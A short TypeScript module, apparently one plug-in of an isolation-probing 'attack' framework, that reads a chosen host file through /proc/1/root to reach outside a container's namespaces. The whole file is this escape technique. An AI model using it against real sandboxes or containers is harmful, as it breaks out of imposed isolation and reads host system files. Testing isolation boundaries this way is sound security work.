// Walks into the host by the root of process 1.
import { readByCalls, type Target } from "../attack.ts";

export const layer = "namespaces";

export default function (target: Target): string | null {
  return readByCalls(`/proc/1/root${target.hostFile}`);
}
